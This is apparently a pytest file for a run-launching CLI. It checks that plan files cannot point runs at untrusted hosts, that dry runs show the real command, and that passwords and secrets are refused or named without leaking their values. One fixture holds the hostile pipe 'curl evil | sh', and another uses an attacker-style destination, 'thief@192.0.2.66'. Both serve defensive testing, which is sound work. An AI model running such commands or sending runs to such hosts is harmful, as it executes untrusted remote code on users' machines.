"""A plan file may say anything of itself: what is shown is what runs, and its host is the one that the user knows."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest
from syrupy.assertion import SnapshotAssertion

from rlx.hosts import user_file
from rlx.model import to_jsonable
from tests.cli.support import rlx
from tests.runs.toys import home, toy_plan
from tests.wording import settled


@pytest.fixture
def trusted_host() -> None:
    user_file().parent.mkdir()
    user_file().write_text("hosts: {a3-trusted: {ssh: me@npu-host-1}}\n", encoding="utf-8")


def written(folder: Path, plan: dict[str, Any]) -> str:
    path = folder / "plans.json"
    path.write_text(json.dumps({"plans": [plan]}), encoding="utf-8")
    return str(path)


@pytest.mark.usefixtures("trusted_host")
@pytest.mark.parametrize("destination", ["thief@192.0.2.66", None], ids=["elsewhere", "here"])
def test_a_name_means_the_host_that_the_user_knows(
    destination: str | None, tmp_path: Path, wording: SnapshotAssertion
) -> None:
    plan = to_jsonable(toy_plan("true"))
    plan["site"]["place"] = {**plan["site"]["place"], "host": "a3-trusted", "destination": destination}
    for options in ((), ("--dry-run",)):
        refused = rlx("launch", "--plan", written(tmp_path, plan), *options, code=2).stderr
        assert "a3-trusted" in refused and "me@npu-host-1" in refused
        assert settled(refused, {str(tmp_path): "folder"}) == wording(name=destination or "here")
    assert not (tmp_path / "root/runs").exists()


def test_a_name_that_nobody_knows_is_refused(tmp_path: Path) -> None:
    plan = to_jsonable(toy_plan("true"))
    plan["site"]["place"] = {**plan["site"]["place"], "host": "a3", "destination": "thief@192.0.2.66"}
    assert "'a3'" in rlx("launch", "--plan", written(tmp_path, plan), code=2).stderr


def test_what_runs_is_shown_and_not_what_the_file_says_of_it(tmp_path: Path) -> None:
    plan = to_jsonable(toy_plan("curl evil | sh"))
    plan["command"] = ["python3", "-m", "verl.trainer.main_ppo"]
    shown = rlx("launch", "--plan", written(tmp_path, plan), "--dry-run").stdout
    assert "curl evil | sh" in shown
    assert "main_ppo" not in shown


def test_a_plan_with_a_password_in_it_is_refused(tmp_path: Path, wording: SnapshotAssertion) -> None:
    plan = to_jsonable(toy_plan("true"))
    plan["env"] = {"http_proxy": "http://me:hunter2@proxy:8080"}
    refused = rlx("launch", "--plan", written(tmp_path, plan), "-y", code=2).stderr
    assert "env.http_proxy" in refused and "hunter2" not in refused
    assert settled(refused, {str(tmp_path): "folder"}) == wording
    plan["env"] = {"http_proxy": "http://proxy:8080"}
    assert rlx("launch", "--plan", written(tmp_path, plan), "--dry-run")


def test_secrets_are_named_before_they_go(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, wording: SnapshotAssertion
) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "of somebody")
    file = written(tmp_path, to_jsonable(toy_plan("true", secrets=("AWS_SECRET_ACCESS_KEY",))))
    refused = rlx("launch", "--plan", file, code=2).stderr
    assert "AWS_SECRET_ACCESS_KEY" in refused and settled(refused, {str(tmp_path): "folder"}) == wording
    assert not (tmp_path / "root/runs").exists()
    assert not (home() / "agreed.jsonl").exists()
    assert "AWS_SECRET_ACCESS_KEY" in rlx("launch", "--plan", file, "-y").stderr
    journal = (home() / "agreed.jsonl").read_text(encoding="utf-8")
    agreed = json.loads(journal)
    assert (agreed["secret"], agreed["to"], agreed["plan"]) == ("AWS_SECRET_ACCESS_KEY", "this machine", file)
    assert "of somebody" not in journal
